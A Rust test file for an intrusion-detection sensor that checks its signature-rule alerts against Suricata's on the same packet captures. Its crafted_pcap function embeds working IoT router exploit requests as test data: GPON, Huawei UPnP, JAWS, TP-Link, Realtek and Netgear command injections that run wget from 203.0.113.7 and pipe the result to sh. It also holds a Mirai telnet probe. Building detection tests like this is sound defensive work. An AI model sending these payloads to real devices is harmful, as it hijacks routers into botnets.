//! Signature rules checked against Suricata itself (issue 11): the same rules (the supported
//! part of `../shared/kb/et-open-iot`) on the same captures, alert sets compared per
//! (sid, flow). Skips with a message when Suricata or `../shared` is missing, unless
//! `PALISADE_REQUIRE_ORACLES=1` (CI), where that is a failure.

use std::collections::BTreeSet;
use std::io::Write;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

use palisade_sensor::AnalyzeOptions;
use palisade_sim::build::{self, Ip4, Tcp, flags};

fn require() -> bool {
    std::env::var("PALISADE_REQUIRE_ORACLES").is_ok_and(|v| v == "1")
}

fn shared() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared");
    if p.join("kb/et-open-iot").is_dir() {
        Some(p)
    } else {
        assert!(!require(), "{} missing", p.display());
        eprintln!("skipping: {} not found", p.display());
        None
    }
}

fn suricata() -> Option<PathBuf> {
    let ok = Command::new("suricata")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success());
    if ok {
        Some(PathBuf::from("suricata"))
    } else {
        assert!(
            !require(),
            "suricata not installed (PALISADE_REQUIRE_ORACLES=1)"
        );
        eprintln!("skipping: suricata not installed");
        None
    }
}

/// (sid, proto, lower endpoint, higher endpoint) — a flow independent of direction.
type Key = (u32, u8, (IpAddr, u16), (IpAddr, u16));

fn key(sid: u32, proto: u8, a: (IpAddr, u16), b: (IpAddr, u16)) -> Key {
    let norm = |(ip, p): (IpAddr, u16)| match ip {
        IpAddr::V6(v6) => (v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4), p),
        v4 => (v4, p),
    };
    let (a, b) = (norm(a), norm(b));
    if a <= b {
        (sid, proto, a, b)
    } else {
        (sid, proto, b, a)
    }
}

/// Writes the supported, de-duplicated rules into one file for both engines.
fn supported_rules(shared: &Path, out: &Path) -> Arc<palisade_rules::RuleSet> {
    let dir = shared.join("kb/et-open-iot");
    let mut seen = BTreeSet::new();
    let mut text = String::new();
    let vars = palisade_rules::Vars::default();
    let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
        .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
        .unwrap_or_default();
    names.sort();
    for p in names
        .iter()
        .filter(|p| p.extension().is_some_and(|x| x == "rules"))
    {
        for line in std::fs::read_to_string(p).unwrap_or_default().lines() {
            let l = line.trim();
            if l.is_empty() || l.starts_with('#') {
                continue;
            }
            if let Ok(r) = palisade_rules::parse_rule(l, &vars)
                && seen.insert(r.sid)
            {
                // Suricata in IDS mode treats drop as alert; keep the line verbatim otherwise.
                let l = l
                    .strip_prefix("drop ")
                    .map_or(l.to_string(), |r| format!("alert {r}"));
                text.push_str(&l);
                text.push('\n');
            }
        }
    }
    let _ = std::fs::create_dir_all(out);
    let _ = std::fs::write(out.join("iot.rules"), &text);
    let _ = std::fs::copy(
        dir.join("classification.config-2020"),
        out.join("classification.config"),
    );
    match palisade_rules::RuleSet::load_dir(out) {
        Ok((set, rep)) => {
            assert_eq!(rep.rejected.len(), 0);
            set
        }
        Err(e) => panic!("{e}"),
    }
}

fn run_suricata(rules: &Path, pcap: &Path, log: &Path) -> BTreeSet<Key> {
    let _ = std::fs::create_dir_all(log);
    let st = Command::new("suricata")
        .args(["-k", "none", "--runmode", "single", "-r"])
        .arg(pcap)
        .arg("-S")
        .arg(rules)
        .arg("-l")
        .arg(log)
        .args([
            "--set",
            "classification-file=/etc/suricata/classification.config",
        ])
        .output();
    assert!(
        st.as_ref().is_ok_and(|o| o.status.success()),
        "suricata failed: {st:?}"
    );
    let mut out = BTreeSet::new();
    let eve = std::fs::read_to_string(log.join("eve.json")).unwrap_or_default();
    for line in eve.lines() {
        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        if v["event_type"] != "alert" {
            continue;
        }
        let ip = |k: &str| v[k].as_str().and_then(|s| s.parse::<IpAddr>().ok());
        let port = |k: &str| v[k].as_u64().unwrap_or(0) as u16;
        let proto = match v["proto"].as_str() {
            Some("TCP") => 6,
            Some("UDP") => 17,
            Some("ICMP") => 1,
            Some("IPv6-ICMP") => 58,
            _ => 0,
        };
        let (Some(s), Some(d)) = (ip("src_ip"), ip("dest_ip")) else {
            continue;
        };
        let sid = v["alert"]["signature_id"].as_u64().unwrap_or(0) as u32;
        out.insert(key(
            sid,
            proto,
            (s, port("src_port")),
            (d, port("dest_port")),
        ));
    }
    out
}

fn run_palisade(
    set: &Arc<palisade_rules::RuleSet>,
    pcaps: &[PathBuf],
    threads: usize,
) -> BTreeSet<Key> {
    let opts = AnalyzeOptions {
        threads,
        rules: Some(set.clone()),
        ..AnalyzeOptions::default()
    };
    palisade_sensor::rule_events(pcaps, &opts)
        .into_iter()
        .map(|e| {
            let ip = |a: &[u8; 16]| palisade_flow::addr_to_ip(a);
            key(e.sid, e.proto, (ip(&e.src), e.sport), (ip(&e.dst), e.dport))
        })
        .collect()
}

/// A TCP connection with one request and one response (consistent seq/ack).
fn session(
    frames: &mut Vec<Vec<u8>>,
    c: [u8; 4],
    s: [u8; 4],
    cport: u16,
    sport: u16,
    req: &[u8],
    resp: &[u8],
) {
    let (cm, sm) = ([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
    let ip_c = Ip4::new(c, s, 64);
    let ip_s = Ip4::new(s, c, 64);
    let (mut cs, mut ss) = (1000u32, 5000u32);
    let seg = |sp, dp, seq, ack, fl, payload: &'static [u8]| Tcp {
        sport: sp,
        dport: dp,
        seq,
        ack,
        flags: fl,
        window: 64240,
        options: &[],
        payload,
    };
    let leak = |b: &[u8]| -> &'static [u8] { Box::leak(b.to_vec().into_boxed_slice()) };
    frames.push(build::eth_ipv4_tcp(
        cm,
        sm,
        &ip_c,
        &seg(cport, sport, cs, 0, flags::SYN, b""),
    ));
    frames.push(build::eth_ipv4_tcp(
        sm,
        cm,
        &ip_s,
        &seg(sport, cport, ss, cs + 1, flags::SYN | flags::ACK, b""),
    ));
    cs += 1;
    ss += 1;
    frames.push(build::eth_ipv4_tcp(
        cm,
        sm,
        &ip_c,
        &seg(cport, sport, cs, ss, flags::ACK, b""),
    ));
    frames.push(build::eth_ipv4_tcp(
        cm,
        sm,
        &ip_c,
        &seg(cport, sport, cs, ss, flags::ACK | flags::PSH, leak(req)),
    ));
    cs += req.len() as u32;
    frames.push(build::eth_ipv4_tcp(
        sm,
        cm,
        &ip_s,
        &seg(sport, cport, ss, cs, flags::ACK | flags::PSH, leak(resp)),
    ));
    ss += resp.len() as u32;
    frames.push(build::eth_ipv4_tcp(
        cm,
        sm,
        &ip_c,
        &seg(cport, sport, cs, ss, flags::ACK | flags::FIN, b""),
    ));
    frames.push(build::eth_ipv4_tcp(
        sm,
        cm,
        &ip_s,
        &seg(sport, cport, ss, cs + 1, flags::ACK | flags::FIN, b""),
    ));
    frames.push(build::eth_ipv4_tcp(
        cm,
        sm,
        &ip_c,
        &seg(cport, sport, cs + 1, ss + 1, flags::ACK, b""),
    ));
}

/// Self-made capture with IoT exploit attempts that the ET rules target.
fn crafted_pcap(path: &Path) {
    let attacker = [203, 0, 113, 7];
    let router = [192, 168, 1, 1];
    let ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    let reqs: Vec<Vec<u8>> = vec![
        b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.168.1.1:80\r\nUser-Agent: Hello, World\r\nContent-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.7/i+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0".to_vec(),
        b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 192.168.1.1:37215\r\nContent-Length: 200\r\nAuthorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\"\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 203.0.113.7 -l /tmp/x -r /mips)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>".to_vec(),
        b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 192.168.1.1:80\r\nAccept: text/html\r\n\r\n".to_vec(),
        b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://203.0.113.7/t|sh`) HTTP/1.1\r\nHost: 192.168.1.1\r\n\r\n".to_vec(),
        b"POST /picsdesc.xml HTTP/1.1\r\nHost: 192.168.1.1:52869\r\nContent-Length: 180\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\"?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`cd /var; wget http://203.0.113.7/r`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>".to_vec(),
        b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.7/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n".to_vec(),
    ];
    let mut frames = Vec::new();
    for (i, r) in reqs.iter().enumerate() {
        let port = match i {
            1 => 37215,
            4 => 52869,
            _ => 80,
        };
        session(&mut frames, attacker, router, 40000 + i as u16, port, r, ok);
    }
    // Telnet: a busybox login banner exchange (ET TELNET rules).
    session(
        &mut frames,
        attacker,
        router,
        41000,
        23,
        b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",
        b"MIRAI: applet not found\r\n",
    );
    let mut w = match palisade_sim::pcap::PcapWriter::new(Vec::new()) {
        Ok(w) => w,
        Err(e) => panic!("{e}"),
    };
    for (i, f) in frames.iter().enumerate() {
        let _ = w.write_packet(1_700_000_000 + i as u32, 0, f);
    }
    let bytes = w.into_inner().unwrap_or_default();
    let mut f = std::fs::File::create(path).ok();
    if let Some(f) = f.as_mut() {
        let _ = f.write_all(&bytes);
    }
}

fn captures(shared: &Path, tmp: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    let crafted = tmp.join("crafted-iot-exploits.pcap");
    crafted_pcap(&crafted);
    v.push(crafted);
    let demo = tmp.join("demo.pcap");
    let _ = std::fs::write(
        &demo,
        palisade_sim::generate(&palisade_sim::SimConfig::default()),
    );
    v.push(demo);
    let mut walk = vec![
        shared.join("kb/suricata-verify-subset"),
        shared.join("datasets/iot23"),
        shared.join("datasets/protocol-samples"),
    ];
    while let Some(d) = walk.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                walk.push(p);
            } else if p.extension().is_some_and(|x| x == "pcap" || x == "pcapng")
                && e.metadata().is_ok_and(|m| m.len() < 8 << 20)
            {
                v.push(p);
            }
        }
    }
    v.sort();
    v
}

#[test]
fn r11_agreement_with_suricata() {
    // See: #11
    let Some(shared) = shared() else { return };
    let Some(_) = suricata() else { return };
    let tmp = std::env::temp_dir().join(format!("palisade-rules-oracle-{}", std::process::id()));
    let set = supported_rules(&shared, &tmp.join("rules"));
    let rules = tmp.join("rules/iot.rules");
    let (mut tp, mut fp, mut fneg) = (0usize, 0usize, 0usize);
    let mut diffs = Vec::new();
    for (i, pcap) in captures(&shared, &tmp).iter().enumerate() {
        let sur = run_suricata(&rules, pcap, &tmp.join(format!("log{i}")));
        let pal = run_palisade(&set, std::slice::from_ref(pcap), 1);
        assert_eq!(
            pal,
            run_palisade(&set, std::slice::from_ref(pcap), 3),
            "threads changed results"
        );
        tp += sur.intersection(&pal).count();
        for k in pal.difference(&sur) {
            fp += 1;
            diffs.push(format!("{}: palisade only {k:?}", pcap.display()));
        }
        for k in sur.difference(&pal) {
            fneg += 1;
            diffs.push(format!("{}: suricata only {k:?}", pcap.display()));
        }
    }
    let _ = std::fs::remove_dir_all(&tmp);
    eprintln!(
        "agreement: {tp} common (sid, flow) alerts, {fp} palisade-only, {fneg} suricata-only"
    );
    for d in &diffs {
        eprintln!("  {d}");
    }
    assert!(
        tp > 0,
        "no alert at all: the crafted capture should trigger rules"
    );
    // The issue's bar: every supported rule agrees with Suricata on every capture.
    let precision = tp as f64 / (tp + fp) as f64;
    let recall = tp as f64 / (tp + fneg) as f64;
    eprintln!("precision {precision:.3} recall {recall:.3}");
    assert!(
        diffs.is_empty(),
        "{} disagreements with Suricata (listed above)",
        diffs.len()
    );
}

/// `(sid, expected alert count)` of a suricata-verify `test.yaml` (its `checks` filters on
/// `event_type: alert` with `alert.signature_id`).
fn verify_expectations(yaml: &str) -> Vec<(u32, u64)> {
    let mut out = Vec::new();
    let (mut count, mut sid, mut alert) = (None, None, false);
    let mut flush = |count: &mut Option<u64>, sid: &mut Option<u32>, alert: &mut bool| {
        if let (Some(c), Some(s), true) = (count.take(), sid.take(), *alert) {
            out.push((s, c));
        }
        *alert = false;
    };
    for line in yaml.lines() {
        let l = line.trim();
        if l.starts_with("- filter:") {
            flush(&mut count, &mut sid, &mut alert);
        } else if let Some(v) = l.strip_prefix("count:") {
            count = v.trim().parse().ok();
        } else if let Some(v) = l.strip_prefix("alert.signature_id:") {
            sid = v.trim().parse().ok();
        } else if l == "event_type: alert" {
            alert = true;
        }
    }
    flush(&mut count, &mut sid, &mut alert);
    out
}

#[test]
fn r11_suricata_verify_cases() {
    // See: #11. Each suricata-verify case with rules: the rules we support run on the
    // case's pcap and must give the alert counts its test.yaml expects; the others must be
    // rejected with a reason (they use app-layer protocols Palisade's rules do not parse).
    let Some(shared) = shared() else { return };
    let root = shared.join("kb/suricata-verify-subset/tests");
    let Ok(rd) = std::fs::read_dir(&root) else {
        assert!(!require(), "{} missing", root.display());
        eprintln!("skipping: {} not found", root.display());
        return;
    };
    let mut cases: Vec<PathBuf> = rd.flatten().map(|e| e.path()).collect();
    cases.sort();
    let (mut with_rules, mut applicable, mut rejected) = (0, 0, 0);
    for case in cases {
        let has_rules = std::fs::read_dir(&case).is_ok_and(|d| {
            d.flatten()
                .any(|e| e.path().extension().is_some_and(|x| x == "rules"))
        });
        if !has_rules {
            continue;
        }
        with_rules += 1;
        let (set, rep) = match palisade_rules::RuleSet::load_dir(&case) {
            Ok(x) => x,
            Err(e) => panic!("{}: {e}", case.display()),
        };
        for r in &rep.rejected {
            assert!(
                !r.key.is_empty() && !r.detail.is_empty(),
                "{}: rejection without a reason: {r:?}",
                case.display()
            );
        }
        rejected += rep.rejected.len();
        if set.rules.is_empty() {
            eprintln!(
                "{}: no supported rule ({} rejected: {:?})",
                case.display(),
                rep.rejected.len(),
                rep.reasons()
            );
            continue;
        }
        let yaml = std::fs::read_to_string(case.join("test.yaml")).unwrap_or_default();
        let pcap = yaml
            .lines()
            .find_map(|l| l.trim().strip_prefix("pcap:").map(|p| case.join(p.trim())))
            .unwrap_or_else(|| case.join("input.pcap"));
        if !pcap.is_file() {
            eprintln!(
                "{}: pcap {} not in the subset",
                case.display(),
                pcap.display()
            );
            continue;
        }
        applicable += 1;
        let opts = AnalyzeOptions {
            threads: 1,
            rules: Some(set.clone()),
            ..AnalyzeOptions::default()
        };
        let events = palisade_sensor::rule_events(&[pcap], &opts);
        let supported: BTreeSet<u32> = set.rules.iter().map(|r| r.rule.sid).collect();
        for (sid, want) in verify_expectations(&yaml) {
            if !supported.contains(&sid) {
                continue;
            }
            let got = events.iter().filter(|e| e.sid == sid).count() as u64;
            assert_eq!(got, want, "{}: sid {sid}", case.display());
        }
    }
    eprintln!(
        "suricata-verify: {with_rules} cases with rules, {applicable} applicable, {rejected} rules rejected with a reason"
    );
    assert!(with_rules > 0, "no suricata-verify case with rules found");
}

#[test]
fn verify_yaml_expectations_are_read() {
    let y = "checks:\n  - filter:\n      count: 1\n      match:\n        event_type: alert\n        alert.signature_id: 7\n  - filter:\n      count: 0\n      match:\n        event_type: alert\n        alert.signature_id: 8\n  - filter:\n      count: 2\n      match:\n        event_type: dns\n";
    assert_eq!(verify_expectations(y), vec![(7, 1), (8, 0)]);
}
